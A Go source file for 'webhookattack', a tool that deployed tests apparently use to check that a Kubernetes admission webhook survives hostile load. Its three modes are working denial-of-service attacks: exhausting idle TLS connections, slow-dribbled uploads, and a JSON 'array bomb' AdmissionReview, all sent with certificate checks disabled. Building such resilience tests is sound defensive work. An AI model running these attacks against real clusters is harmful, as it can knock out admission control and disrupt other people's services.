// Command webhookattack loads an admission webhook the way a hostile client in the cluster
// could, so that the deployed tests can check the webhook survives it (no OOM kill, the API
// server's admissions still served). It speaks TLS without checking the certificate (the
// attacker has no reason to) and HTTP/1.1 by hand, so that it controls every byte and its timing.
//
//	webhookattack [flags] HOST:PORT idle N                hold N idle TLS connections
//	webhookattack [flags] HOST:PORT slow-upload N SIZE    N POSTs of SIZE bytes, each dribbled
//	                                                      over --dribble
//	webhookattack [flags] HOST:PORT array-bomb N SIZE     N AdmissionReviews of SIZE bytes whose
//	                                                      object is [{},{},...], sent at once
//
// SIZE is bytes, or a number with Ki, Mi, K or M ("3Mi", "2.9Mi"). Every connection ends in one
// outcome: the status code of the answer ("200", "429", ...), or what happened instead:
// "closed" (the server closed the connection without an answer), "reset", "timeout",
// "connect-failed", "handshake-failed", "write-failed"; idle connections end "held" (still open
// when --hold ended) or "closed"/"reset" when the server closed them first. The counts go to
// stderr as text and to stdout as one JSON object: {"mode":"...","connections":N,
// "outcomes":{"429":180,"200":20},"seconds":31.2}.
package main

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
)

type config struct {
	target  string
	path    string
	hold    time.Duration // idle: how long connections are held
	dribble time.Duration // slow-upload: how long one body takes to send
	timeout time.Duration // connect, handshake, and the wait for an answer after the last byte
	reopen  bool          // idle: replace a connection the server closed
}

// outcomes counts how connections ended, safe for concurrent use.
type outcomes struct {
	mu     sync.Mutex
	counts map[string]int
}

func (o *outcomes) add(outcome string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.counts[outcome]++
}

func main() {
	var c config
	flag.StringVar(&c.path, "path", "/jobs/mutate", "request path of slow-upload and array-bomb")
	flag.DurationVar(&c.hold, "hold", 60*time.Second, "idle: how long to hold the connections")
	flag.DurationVar(&c.dribble, "dribble", 30*time.Second, "slow-upload: how long each body takes to send")
	flag.DurationVar(&c.timeout, "timeout", 15*time.Second, "connect and handshake timeout, and how long to wait for an answer after the last byte")
	flag.BoolVar(&c.reopen, "reopen", true, "idle: open a new connection for each one the server closes, until --hold ends")
	flag.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: webhookattack [flags] HOST:PORT idle N | slow-upload N SIZE | array-bomb N SIZE")
		flag.PrintDefaults()
	}
	flag.Parse()
	args := flag.Args()
	if len(args) < 3 {
		flag.Usage()
		os.Exit(2)
	}
	c.target = args[0]
	mode := args[1]
	n, err := strconv.Atoi(args[2])
	if err != nil || n <= 0 {
		fail("N must be a positive number, got %q", args[2])
	}
	size := 0
	if mode != "idle" {
		if len(args) != 4 {
			fail("%s needs N and SIZE", mode)
		}
		if size, err = parseSize(args[3]); err != nil {
			fail("%v", err)
		}
	}
	result := outcomes{counts: map[string]int{}}
	start := time.Now()
	switch mode {
	case "idle":
		idle(c, n, &result)
	case "slow-upload":
		concurrently(n, func(i int) { result.add(upload(c, "application/json", uploadBody(size), c.dribble)) })
	case "array-bomb":
		body := arrayBomb(size)
		concurrently(n, func(i int) { result.add(upload(c, "application/json", body, 0)) })
	default:
		fail("unknown mode %q: idle, slow-upload or array-bomb", mode)
	}
	report(mode, n, &result, time.Since(start))
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "webhookattack: "+format+"\n", args...)
	os.Exit(2)
}

// parseSize reads "3145728", "3Mi", "2.9Mi", "512Ki", "3M" or "64K".
func parseSize(s string) (int, error) {
	units := []struct {
		suffix string
		scale  float64
	}{{"Ki", 1 << 10}, {"Mi", 1 << 20}, {"K", 1e3}, {"M", 1e6}, {"", 1}}
	for _, u := range units {
		if number, ok := strings.CutSuffix(s, u.suffix); ok {
			v, err := strconv.ParseFloat(number, 64)
			if err != nil || v <= 0 {
				break
			}
			return int(v * u.scale), nil
		}
	}
	return 0, fmt.Errorf("SIZE must be a positive number of bytes, optionally with Ki, Mi, K or M; got %q", s)
}

func concurrently(n int, work func(i int)) {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			work(i)
		}()
	}
	wg.Wait()
}

func dial(c config) (*tls.Conn, string) {
	d := &net.Dialer{Timeout: c.timeout}
	raw, err := d.Dial("tcp", c.target)
	if err != nil {
		return nil, "connect-failed"
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
	_ = conn.SetDeadline(time.Now().Add(c.timeout))
	if err := conn.Handshake(); err != nil {
		raw.Close()
		return nil, "handshake-failed"
	}
	_ = conn.SetDeadline(time.Time{})
	return conn, ""
}

// ended names how a read or write failed.
func ended(err error) string {
	var netErr net.Error
	switch {
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF), errors.Is(err, net.ErrClosed):
		return "closed"
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.EPIPE):
		return "reset"
	case errors.As(err, &netErr) && netErr.Timeout():
		return "timeout"
	}
	return "closed"
}

// idle holds n connections without sending a byte until c.hold passes, replacing each one the
// server closes when c.reopen is set.
func idle(c config, n int, result *outcomes) {
	end := time.Now().Add(c.hold)
	concurrently(n, func(int) {
		for time.Now().Before(end) {
			conn, failed := dial(c)
			if conn == nil {
				result.add(failed)
				time.Sleep(100 * time.Millisecond) // a refused connection: do not spin
				continue
			}
			_ = conn.SetReadDeadline(end)
			_, err := conn.Read(make([]byte, 1))
			conn.Close()
			outcome := ended(err)
			if outcome == "timeout" {
				outcome = "held"
			}
			result.add(outcome)
			if !c.reopen {
				return
			}
		}
	})
}

// upload sends one POST of body, spread evenly over dribble (0: at once), and returns its
// outcome. The answer is read while the body is still being sent: a server that refuses early
// answers before the body is complete.
func upload(c config, contentType string, body []byte, dribble time.Duration) string {
	conn, failed := dial(c)
	if conn == nil {
		return failed
	}
	defer conn.Close()
	answer := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answer <- ended(err)
			return
		}
		resp.Body.Close()
		answer <- strconv.Itoa(resp.StatusCode)
	}()
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n",
		c.path, c.target, contentType, len(body))
	if _, err := conn.Write([]byte(head)); err != nil {
		return "write-failed"
	}
	const pieces = 100
	piece := (len(body) + pieces - 1) / pieces
	for sent := 0; sent < len(body); sent += piece {
		select {
		case outcome := <-answer:
			return outcome // answered before the body was complete
		default:
		}
		if _, err := conn.Write(body[sent:min(sent+piece, len(body))]); err != nil {
			// The server may have answered and closed: its answer says more than the write error.
			select {
			case outcome := <-answer:
				return outcome
			case <-time.After(time.Second):
				return "write-failed"
			}
		}
		if dribble > 0 {
			time.Sleep(dribble / pieces)
		}
	}
	select {
	case outcome := <-answer:
		return outcome
	case <-time.After(c.timeout):
		return "timeout"
	}
}

// uploadBody is SIZE bytes of a JSON string, so that a server that reads it all sees valid JSON.
func uploadBody(size int) []byte {
	body := []byte(strings.Repeat("x", size))
	if size >= 2 {
		body[0], body[size-1] = '"', '"'
	}
	return body
}

// arrayBomb is an AdmissionReview of about size bytes whose object is [{},{},...]: small text,
// a large tree once parsed.
func arrayBomb(size int) []byte {
	const head = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"webhookattack",` +
		`"kind":{"group":"batch.volcano.sh","version":"v1alpha1","kind":"Job"},` +
		`"resource":{"group":"batch.volcano.sh","version":"v1alpha1","resource":"jobs"},` +
		`"name":"bomb","namespace":"default","operation":"CREATE","object":[{}`
	const tail = `]}}`
	var b strings.Builder
	b.Grow(size + len(head))
	b.WriteString(head)
	for b.Len()+3+len(tail) <= size {
		b.WriteString(",{}")
	}
	b.WriteString(tail)
	return []byte(b.String())
}

func report(mode string, n int, result *outcomes, took time.Duration) {
	keys := make([]string, 0, len(result.counts))
	for k := range result.counts {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	fmt.Fprintf(os.Stderr, "webhookattack %s: %d connections in %.1fs\n", mode, n, took.Seconds())
	for _, k := range keys {
		fmt.Fprintf(os.Stderr, "  %-16s %d\n", k, result.counts[k])
	}
	out, _ := json.Marshal(map[string]any{
		"mode": mode, "connections": n, "outcomes": result.counts, "seconds": took.Seconds(),
	})
	fmt.Println(string(out))
}
